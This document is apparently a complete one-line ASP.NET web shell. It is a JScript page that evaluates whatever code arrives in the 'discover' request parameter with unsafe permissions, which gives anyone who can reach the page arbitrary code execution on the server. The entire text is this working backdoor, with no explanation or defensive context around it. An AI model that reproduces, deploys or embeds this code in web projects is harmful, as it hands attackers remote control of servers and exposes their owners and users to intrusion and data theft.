<%@ Page Language="Jscript"%><%eval(Request.Item["discover"],"unsafe");%>
